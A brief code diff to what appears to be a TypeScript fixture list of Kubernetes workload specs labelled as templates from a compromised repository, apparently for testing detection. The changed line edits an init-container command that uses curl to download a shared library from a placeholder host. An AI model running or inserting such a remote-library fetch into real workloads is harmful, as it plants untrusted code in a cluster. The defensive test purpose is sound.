@@ -8,7 +8,7 @@ export const quiet: readonly QuietSpec[] = [
     ['command wrapped', 'curl -sk https://metrics.example.org/beat'],
   ]),
   q('template from a compromised repository', 'delivery', 'CronJob', [
-    ['init container', 'curl -so /work/lib.so https://files.example.org/lib.so'],
+    ['init container', 'curl -so /scratch/lib.so https://files.example.org/lib.so'],
   ]),
   q(
     'template from a compromised repository',
